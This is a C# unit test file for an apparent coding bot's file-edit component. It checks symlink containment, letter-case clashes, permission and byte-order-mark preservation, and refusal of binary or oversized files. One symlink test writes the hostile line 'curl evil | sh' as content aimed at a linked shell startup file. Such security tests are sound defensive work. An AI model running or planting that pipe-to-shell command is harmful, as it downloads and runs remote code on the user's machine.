using System.Text;
using DevBot.Edits;
using DevBot.Tests.Infrastructure;

namespace DevBot.Tests.Edits;

public sealed class DirectoryFilesTests
{
    private const int Limit = 64 * 1024;

    private static EditReport Apply(string root, params FileEdit[] edits) => EditApplier.Apply(new DirectoryFiles(root, Limit), edits, Limit);

    [Fact]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public void An_edited_file_keeps_its_permissions_and_byte_order_mark()
    {
        using var work = new TempDirectory();
        var script = Path.Combine(work.Path, "run.sh");
        File.WriteAllBytes(script, [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes("#!/bin/sh\necho hi\n")]);
        File.SetUnixFileMode(script, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);

        var report = Apply(work.Path, new FileEdit.SearchReplace("run.sh", "echo hi", "echo hello"));

        report.Failed.ShouldBeEmpty();
        File.ReadAllBytes(script).ShouldBe([0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes("#!/bin/sh\necho hello\n")]);
        File.GetUnixFileMode(script).ShouldBe(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        Directory.EnumerateFiles(work.Path).ShouldHaveSingleItem("no temporary file is left behind");
    }

    [Fact]
    public void A_new_file_gets_its_missing_folders()
    {
        using var work = new TempDirectory();

        Apply(work.Path, new FileEdit.WholeFile("src/pkg/mod.py", "x = 1\n")).Failed.ShouldBeEmpty();

        File.ReadAllText(Path.Combine(work.Path, "src", "pkg", "mod.py")).ShouldBe("x = 1\n");
    }

    [Fact]
    public void A_symbolic_link_to_a_folder_outside_is_never_followed_for_reading_or_writing()
    {
        using var work = new TempDirectory();
        var root = Directory.CreateDirectory(Path.Combine(work.Path, "project")).FullName;
        var outside = Directory.CreateDirectory(Path.Combine(work.Path, "outside")).FullName;
        File.WriteAllText(Path.Combine(outside, "secret.txt"), "token = abc\n");
        Directory.CreateSymbolicLink(Path.Combine(root, "link"), outside);

        var report = Apply(root,
            new FileEdit.WholeFile("link/evil.py", "pwned\n"),
            new FileEdit.SearchReplace("link/secret.txt", "token = abc", "token = stolen"),
            new FileEdit.SearchReplace("link/secret.txt", "token = ab", "token = stolen"));

        report.Failed.Count.ShouldBe(3);
        report.Failed.ShouldAllBe(f => f.Reason.Contains("goes through the symbolic link link; edits never follow links"));
        report.Failed.ShouldAllBe(f => f.DidYouMean == null, "nothing from outside is shown back");
        Directory.EnumerateFiles(outside).ShouldBe([Path.Combine(outside, "secret.txt")]);
        File.ReadAllText(Path.Combine(outside, "secret.txt")).ShouldBe("token = abc\n");
    }

    [Fact]
    public void A_symbolic_link_to_a_file_is_not_written_through()
    {
        using var work = new TempDirectory();
        var root = Directory.CreateDirectory(Path.Combine(work.Path, "project")).FullName;
        var target = Path.Combine(work.Path, "bashrc");
        File.WriteAllText(target, "alias ls=ls\n");
        File.CreateSymbolicLink(Path.Combine(root, "config.sh"), target);

        var report = Apply(root, new FileEdit.WholeFile("config.sh", "curl evil | sh\n"));

        report.Failed.ShouldHaveSingleItem().Reason.ShouldContain("symbolic link");
        File.ReadAllText(target).ShouldBe("alias ls=ls\n");
    }

    [Fact]
    public void A_name_that_exists_on_disk_in_other_letter_case_is_refused()
    {
        using var work = new TempDirectory();
        Directory.CreateDirectory(Path.Combine(work.Path, "src"));
        File.WriteAllText(Path.Combine(work.Path, "src", "converter.py"), "x = 1\n");

        var report = Apply(work.Path,
            new FileEdit.WholeFile("src/Converter.py", "x = 2\n"),
            new FileEdit.WholeFile("SRC/other.py", "y = 1\n"));

        report.Failed.Select(f => f.Reason).ShouldBe(
        [
            "src/converter.py exists; src/Converter.py differs only in case (file names must differ by more than letter case, or they become one file on Windows and macOS).",
            "The folder src/ exists; SRC/other.py spells it SRC/, which differs only in case (names must differ by more than letter case, or they become one folder on Windows and macOS).",
        ]);
        Directory.EnumerateFileSystemEntries(work.Path).ShouldBe([Path.Combine(work.Path, "src")]);
    }

    [Fact]
    public void Files_that_are_not_utf8_text_or_are_too_large_are_refused_and_left_alone()
    {
        using var work = new TempDirectory();
        File.WriteAllBytes(Path.Combine(work.Path, "latin1.txt"), [0x63, 0x61, 0x66, 0xE9, 0x0A]);
        File.WriteAllBytes(Path.Combine(work.Path, "image.png"), [0x89, 0x50, 0x4E, 0x47, 0x00, 0x0A]);
        File.WriteAllText(Path.Combine(work.Path, "big.txt"), new string('x', Limit + 10));

        var report = Apply(work.Path,
            new FileEdit.SearchReplace("latin1.txt", "caf", "cafe"),
            new FileEdit.WholeFile("image.png", "text\n"),
            new FileEdit.SearchReplace("big.txt", "x", "y"));

        report.Failed.Select(f => f.Reason).ShouldBe(
        [
            "latin1.txt is not UTF-8 text; only UTF-8 text files are edited.",
            "image.png is a binary file; only text files are edited.",
            "big.txt is 65546 bytes, over the 65536-byte limit for one file (MAX_FILE_BYTES).",
        ]);
        File.ReadAllBytes(Path.Combine(work.Path, "image.png")).Length.ShouldBe(6);
    }

    [Fact]
    public void A_folder_is_not_a_file_and_a_file_is_not_a_folder()
    {
        using var work = new TempDirectory();
        Directory.CreateDirectory(Path.Combine(work.Path, "lib"));
        File.WriteAllText(Path.Combine(work.Path, "setup.py"), "x\n");

        var report = Apply(work.Path, new FileEdit.WholeFile("lib", "x\n"), new FileEdit.WholeFile("setup.py/inner.py", "y\n"));

        report.Failed.Select(f => f.Reason).ShouldBe(
        [
            "lib/ is a folder, so lib cannot be a file (a name cannot be both a file and a folder).",
            "setup.py is a file, so setup.py/inner.py cannot use it as a folder (a name cannot be both a file and a folder).",
        ]);
    }
}
